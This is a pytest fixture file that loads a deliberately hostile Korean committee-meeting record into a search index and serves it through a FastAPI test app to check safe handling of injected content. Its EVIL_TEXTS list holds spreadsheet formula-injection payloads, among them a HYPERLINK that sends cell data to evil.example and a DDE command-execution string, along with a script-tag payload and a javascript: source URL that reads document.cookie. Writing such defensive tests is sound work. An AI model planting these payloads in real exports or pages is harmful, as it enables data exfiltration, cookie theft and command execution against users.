"""An index holding a hostile meeting (formulas, script links, markup in speech) and an app serving it."""

from __future__ import annotations

import socket

import pytest
from fastapi.testclient import TestClient

from tests.conftest import index_meetings

EVIL_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
    "=cmd|' /C calc'!A0 국정감사에서 말씀드립니다",
    "+1+1 예산 증액을 요구합니다",
    "-2+3 삭감 의견입니다",
    "@SUM(1+1) 위원회 의견입니다",
    "\t=1+2 탭으로 시작하는 발언입니다",
    "<script>alert(1)</script> 스크립트 발언입니다",
]
HOSTILE_MEETING = {
    "committee": "보건복지위원회", "date": "2021-03-04", "session": 385, "meeting_number": 1,
    "source_url": "javascript:alert(document.cookie)",
    "turns": [{"speaker": "홍길동", "role": "위원", "text": text} for text in EVIL_TEXTS],
}


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture(scope="session")
def hostile_settings(settings, es_client, analyzer, tmp_path_factory):
    return index_meetings(settings, es_client, analyzer, tmp_path_factory.mktemp("hostile"), "test-hostile-turns",
                          [HOSTILE_MEETING])


@pytest.fixture(scope="session")
def hostile_api(hostile_settings):
    from web.app import create_app

    return TestClient(create_app(hostile_settings))
